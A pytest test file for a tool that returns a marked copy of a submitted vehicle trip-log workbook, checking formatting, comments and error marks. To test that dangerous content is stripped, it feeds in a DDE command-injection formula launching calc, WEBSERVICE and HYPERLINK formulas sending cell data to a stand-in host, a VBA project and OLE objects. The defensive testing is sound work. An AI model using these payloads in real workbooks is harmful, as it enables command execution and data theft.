"""The answer to a workbook: the sender's own, marked, and what of it is not handed back."""

import io
import re
import warnings
import zipfile
from copy import copy
from datetime import time

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from telemetria_pipeline.contracts.boletim import EXPLANATION_SHEET, SUMMARY_SHEET, TEMPLATE_SHEET
from telemetria_pipeline.core.boletim.validation import validate_file
from telemetria_pipeline.reports import answer as boletim_answer
from telemetria_pipeline.reports.answer import answer_workbook
from telemetria_pipeline_tests.core.boletim.rows import RECEIVED, xlsx_of
from telemetria_pipeline_tests.reports.depot import depot_workbook
from telemetria_pipeline_tests.reports.test_answer import RED, TYPED, YELLOW, typed, words

OWN, BAD = "Garagem 3", {"B8", "F12", "H16"}
SHEET = "xl/worksheets/sheet1.xml"


def validated(data: bytes):
    return validate_file(data, "boletim.xlsx", received_on=RECEIVED)


def answer_to(data: bytes) -> bytes:
    return answer_workbook(validated(data), data)


def opened(data: bytes):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl does not know data bars
        return openpyxl.load_workbook(io.BytesIO(data))


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def edited(data: bytes, *changes: tuple[str, str, str], **added: bytes) -> bytes:
    """The package with texts replaced in parts (part, old, new), and parts added."""
    parts = parts_of(data)
    for part, old, new in changes:
        assert old.encode() in parts[part], (part, old)
        parts[part] = parts[part].replace(old.encode(), new.encode(), 1)
    return packed(parts | added)


def related(data: bytes, rels: str, kind: str, target: str, part: bytes = b"<a/>", mode: str = "") -> bytes:
    """The package with one more relation, and the part that it leads to."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}" {mode}/></Relationships>'
    folder = rels.split("_rels")[0]
    more = {} if mode else {folder + target: part}
    return edited(data, (rels, "</Relationships>", relation), **more)


def typed_into(data: bytes, cells: dict[str, str]) -> bytes:
    """What a person types into the sender's sheet of an answer, as text; looks and comments stay."""
    part = parts_of(data)[SHEET].decode()
    for cell, text in cells.items():
        part, done = re.subn(
            rf'<c r="{cell}"([^>]*?)(?: t="\w+")?([^>]*?)(/>|>.*?</c>)',
            rf'<c r="{cell}"\1\2 t="inlineStr"><is><t>{text}</t></is></c>',
            part,
        )
        assert done == 1, cell
    return packed(parts_of(data) | {SHEET: part.encode()})


CORRECTED = {"B8": "GDP4J68", "F12": "09:40", "H16": "12:35"}


def values(data: bytes, sheet: str) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()


def look(cell) -> str:
    return repr((cell.fill, cell.font, cell.border, cell.number_format, cell.alignment, cell.protection))


def test_all_but_the_marks_is_as_the_sender_made_it():
    data = depot_workbook()
    answer = answer_to(data)
    before, after = opened(data), opened(answer)
    assert after.sheetnames == [SUMMARY_SHEET, *before.sheetnames]
    for name in before.sheetnames:
        old, new = before[name], after[name]
        for row in old.iter_rows():
            for cell in row:
                twin = new[cell.coordinate]
                assert twin.value == cell.value, cell.coordinate
                assert cell.coordinate in BAD or look(twin) == look(cell), cell.coordinate
        for what in ("merged_cells", "freeze_panes", "auto_filter", "print_title_rows", "page_setup"):
            assert getattr(new, what) == getattr(old, what), what
        assert {k: d.width for k, d in new.column_dimensions.items()} == {
            k: d.width for k, d in old.column_dimensions.items()
        }
        assert {k: d.height for k, d in new.row_dimensions.items()} == {
            k: d.height for k, d in old.row_dimensions.items()
        }
        assert str(new.data_validations) == str(old.data_validations)
        assert values(answer, name) == values(data, name)  # the stored results of formulas too
    assert after.defined_names["Viagens"].value == before.defined_names["Viagens"].value
    old, new = parts_of(data), parts_of(answer)
    for part in (
        "xl/media/image1.png",
        "xl/drawings/drawing1.xml",
        "xl/theme/theme1.xml",
        "xl/sharedStrings.xml",
    ):
        assert new[part] == old[part]
    assert b"<x14:dataBar" in new[SHEET]


def test_a_mark_keeps_the_cells_border_and_format():
    before, after = opened(depot_workbook())[OWN], opened(answer_to(depot_workbook()))[OWN]
    for cell in BAD:
        old, new = before[cell], after[cell]
        assert new.fill.fgColor.rgb == RED
        assert "Resposta ao boletim:" in new.comment.text
        assert (new.font.name, new.font.sz) == (old.font.name, old.font.sz)
        new.fill, new.font = copy(old.fill), copy(old.font)
        assert look(new) == look(old)
    assert "Falta o valor" in after["H16"].comment.text


def test_comments_of_the_sender_stay_and_each_has_its_box():
    answer = answer_to(depot_workbook())
    page = opened(answer)[OWN]
    assert page["N5"].comment.text == "Férias a partir do dia 20."
    assert page["B8"].comment.text.startswith("Placa nova, conferir.\n\nResposta ao boletim:\nGDP4I6B")
    drawing = next(part for name, part in parts_of(answer).items() if name.endswith(".vml"))
    boxes = re.findall(rb"<x:Row>(\d+)</x:Row><x:Column>(\d+)</x:Column>", re.sub(rb"\s+<", b"<", drawing))
    assert sorted(boxes) == sorted([(b"4", b"13"), (b"7", b"1"), (b"11", b"5"), (b"15", b"7")])
    assert len(set(re.findall(rb'id="(_x0000_s\d+)"', drawing))) == 4


def test_only_the_summary_is_selected_and_names_stay_with_their_sheets():
    after = opened(answer_to(depot_workbook()))
    assert [bool(page.sheet_view.tabSelected) for page in after] == [True, False, False]
    assert after.active.title == SUMMARY_SHEET
    assert after["Resumo do mês"].print_title_rows == "$1:$1"


def test_a_corrected_answer_is_accepted_as_it_stands():
    again = typed_into(answer_to(depot_workbook()), CORRECTED)
    verdict, sound = validated(again), validated(depot_workbook(mistakes=False))
    assert (verdict.verdict, verdict.problems, verdict.rows) == ("accepted", [], sound.rows)
    assert [w.message for w in verdict.warnings] == [w.message for w in sound.warnings]


def test_an_answer_that_comes_back_is_freed_of_its_marks():
    again = typed_into(answer_to(depot_workbook()), {k: v for k, v in CORRECTED.items() if k != "F12"})
    after, before = opened(answer_to(again)), opened(depot_workbook())[OWN]
    assert after.sheetnames == [SUMMARY_SHEET, OWN, "Resumo do mês"]
    page = after[OWN]
    assert "1 erro" in words(after[SUMMARY_SHEET])
    assert page["F12"].fill.fgColor.rgb == RED
    assert page["F12"].comment.text.count("Resposta ao boletim:") == 1
    assert page["B8"].comment.text == "Placa nova, conferir."
    assert page["H16"].comment is None
    assert [look(page[cell]) for cell in ("B8", "H16")] == [look(before[cell]) for cell in ("B8", "H16")]


def test_a_summary_of_the_senders_own_stays():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_of(typed(), typed(PLACA="X"))))
    book.create_sheet(SUMMARY_SHEET)["A1"] = "Boletim de viagens da garagem"
    out = io.BytesIO()
    book.save(out)
    after = opened(answer_to(out.getvalue()))
    assert after.sheetnames == ["Resumo (2)", "Boletim", SUMMARY_SHEET]
    assert after[SUMMARY_SHEET]["A1"].value == "Boletim de viagens da garagem"


def test_of_merged_cells_the_one_that_shows_is_marked():
    data = xlsx_of(typed(), *(typed(DATA=None, HORÁRIO_SAÍDA=None) for _ in range(2)))
    data = edited(
        data,
        (SHEET, "<pageMargins", '<mergeCells count="1"><mergeCell ref="D2:D4"/></mergeCells><pageMargins'),
    )
    page = opened(answer_to(data))["Boletim"]
    assert page["D2"].fill.fgColor.rgb == RED
    assert "linha 3" in page["D2"].comment.text
    assert "linha 4" in page["D2"].comment.text
    assert page["F3"].fill.fgColor.rgb == RED


def prefixed(data: bytes) -> bytes:
    """As .NET's libraries write: every name behind a prefix, cells without addresses."""
    parts = parts_of(data)
    for name in (SHEET, "xl/workbook.xml", "xl/styles.xml"):
        text = re.sub(rb"<(/?)(?=[a-zA-Z])(?!\w+:)", rb"<\1x:", parts[name])
        parts[name] = text.replace(b"xmlns=", b"xmlns:x=")
    parts[SHEET] = re.sub(rb'(<x:c) r="\w+"', rb"\1", parts[SHEET])
    return packed(parts)


def test_other_ways_to_write_a_sheet():
    data = prefixed(xlsx_of(typed(), typed(PLACA="X", HORÁRIO_CHEGADA=time(7, 31))))
    page = opened(answer_to(data))
    assert page.sheetnames == [SUMMARY_SHEET, "Boletim"]
    assert b"<x:sheetData>" in parts_of(answer_to(data))[SHEET]
    assert (page["Boletim"]["B3"].fill.fgColor.rgb, page["Boletim"]["H3"].fill.fgColor.rgb) == (RED, YELLOW)


# --- what is not handed back -----------------------------------------------------------------------------

ROOT, BOOK, OF_SHEET = "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"
FORMULA = "<f>K6-J6</f>"


@pytest.mark.parametrize(
    ("rels", "kind", "target"),
    [
        (BOOK, "vbaProject", "vbaProject.bin"),
        (BOOK, "connections", "connections.xml"),
        (BOOK, "customXml", "custom.xml"),
        (ROOT, "extensibility", "customUI.xml"),
        (OF_SHEET, "oleObject", "evil.bin"),
        (OF_SHEET, "control", "control1.xml"),
    ],
)
def test_programs_and_connections_are_left_behind(rels, kind, target):
    after = answer_to(related(depot_workbook(), rels, kind, target))
    assert opened(after).sheetnames == [SUMMARY_SHEET, OWN, "Resumo do mês"]
    assert not any(name.endswith(target) for name in parts_of(after))
    assert kind.encode() not in b"".join(p for n, p in parts_of(after).items() if n.endswith(".rels"))


def test_a_workbook_with_macros_comes_back_as_one_without():
    data = edited(
        depot_workbook(),
        ("[Content_Types].xml", "spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml"),
    )
    types = parts_of(answer_to(data))["[Content_Types].xml"]
    assert b"macroEnabled" not in types
    assert b"spreadsheetml.sheet.main+xml" in types


def test_buttons_go_with_their_programs():
    controls = '<controls><control shapeId="1" r:id="rId99" name="Botão"/></controls></worksheet>'
    data = related(edited(depot_workbook(), (SHEET, "</worksheet>", controls)), OF_SHEET, "control", "c.xml")
    button = '<v:shape id="b"><x:ClientData ObjectType="Button"><x:FmlaMacro>Abrir</x:FmlaMacro>'
    button += "</x:ClientData></v:shape>"
    data = edited(data, ("xl/drawings/vmlDrawing1.vml", "</xml>", button + "</xml>"))
    parts = parts_of(answer_to(data))
    assert b"control" not in parts[SHEET]
    assert b"FmlaMacro" not in parts["xl/drawings/vmlDrawing1.vml"]
    assert b'ObjectType="Note"' in parts["xl/drawings/vmlDrawing1.vml"]


@pytest.mark.parametrize(
    "formula",
    [
        "[1]Plan1!A1",
        "cmd|&apos;/C calc&apos;!A0",
        "&#91;1]Plan1!A1",
        'WEBSERVICE("http://x/"&amp;A1)',
        'HYPERLINK("http://x/"&amp;A1)',
    ],
)
def test_formulas_that_reach_out_come_back_as_values(formula):
    data = edited(depot_workbook(), (SHEET, FORMULA, f"<f>{formula}</f>"))
    after = answer_to(data)
    parts = parts_of(after)
    assert opened(after).sheetnames == [SUMMARY_SHEET, OWN, "Resumo do mês"]
    assert not any(b"<f>" in parts[name] for name in parts if name.startswith("xl/worksheets/s"))
    assert values(after, OWN) == values(data, OWN)


def test_links_to_other_workbooks_are_cut():
    data = related(depot_workbook(), BOOK, "externalLink", "externalLinks/externalLink1.xml")
    data = edited(
        data,
        (SHEET, FORMULA, "<f>[1]Plan1!A1</f>"),
        (
            "xl/workbook.xml",
            "</sheets>",
            '</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>',
        ),
        (
            "xl/workbook.xml",
            "</definedNames>",
            '<definedName name="Fora">[1]Plan1!$A$1</definedName></definedNames>',
        ),
    )
    after = answer_to(data)
    assert "Resumo do mês" in opened(after).sheetnames  # a copy
    whole = b"".join(parts_of(after).values())
    assert b"externalRef" not in whole and b"externalLink" not in whole and b"[1]" not in whole
    assert values(after, OWN) == values(data, OWN)


@pytest.mark.parametrize(
    "broken",
    [
        lambda d: related(
            d, "xl/drawings/_rels/drawing1.xml.rels", "image", "http://x/y.png", mode='TargetMode="External"'
        ),
        lambda d: related(d, OF_SHEET, "queryTable", "queryTable1.xml"),
        lambda d: related(d, OF_SHEET, "hyperlink", "file://host/x.exe", mode='TargetMode="External"'),
        lambda d: edited(d, (SHEET, "<sheetData>", "<sheetData><!-- <row> -->")),
        lambda d: edited(d, (SHEET, "</formula1>", "&amp;WEBSERVICE(A1)</formula1>")),
        lambda d: edited(d, ("xl/styles.xml", "<fills", "<other")),
    ],
    ids=["linked picture", "unknown relation", "link to a file", "comment in the cells", "rule", "styles"],
)
def test_what_cannot_be_copied_is_written_anew_and_says_so(broken):
    book = opened(answer_to(broken(depot_workbook())))
    assert book.sheetnames == [SUMMARY_SHEET, OWN]
    assert book[OWN]["B8"].fill.fgColor.rgb == RED
    assert "não pôde ser copiada" in words(book[SUMMARY_SHEET])


# --- many cells, and a template --------------------------------------------------------------------------


def test_beyond_the_most_comments_cells_have_the_colour_only(monkeypatch):
    monkeypatch.setattr(boletim_answer, "MOST_COMMENTS", 2)
    book = opened(answer_to(xlsx_of(*(typed(PLACA=f"X{i}") for i in range(5)))))
    page = book["Boletim"]
    assert [page[f"B{row}"].fill.fgColor.rgb for row in range(2, 7)] == [RED] * 5
    assert [page[f"B{row}"].comment is not None for row in range(2, 7)] == [True, True, False, False, False]
    assert "têm só a cor" in words(book[SUMMARY_SHEET])


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_without_titles_a_template_comes_along_and_can_be_sent_back():
    data = xlsx_of([1, 2], [3, 4], headers=[5, 6])
    answer = answer_to(data)
    book = opened(answer)
    assert book.sheetnames == [SUMMARY_SHEET, TEMPLATE_SHEET, EXPLANATION_SHEET]
    assert "aba Modelo" in words(book[SUMMARY_SHEET])
    assert "aba Modelo" in words(book[EXPLANATION_SHEET])
    assert [p.code for p in validated(answer).problems] == ["SEM_LINHAS"]
    for column, value in enumerate(TYPED, start=1):
        book[TEMPLATE_SHEET].cell(2, column, value)
    verdict = validated(saved(book))
    assert (verdict.verdict, verdict.rows.accepted, verdict.warnings) == ("accepted", 1, [])


def test_where_a_column_is_missing_either_sheet_can_be_completed():
    headers = ["PLACA", "DATA", "HORÁRIO SAÍDA", "HORÁRIO CHEGADA", "KM SAÍDA"]
    row = [TYPED[i] for i in (1, 3, 5, 7, 9)]
    data = xlsx_of(row, ["X", *row[1:]], headers=headers)
    book = opened(answer_to(data))
    assert book.sheetnames == [SUMMARY_SHEET, "Boletim", TEMPLATE_SHEET, EXPLANATION_SHEET]
    page = book["Boletim"]
    page["A3"] = "HFP6E38"
    for at, value in (("F1", "KM CHEGADA"), ("F2", 45150), ("F3", 45150)):
        page[at] = value
    verdict = validated(saved(book))
    assert (verdict.verdict, verdict.rows.accepted, verdict.warnings) == ("accepted", 2, [])
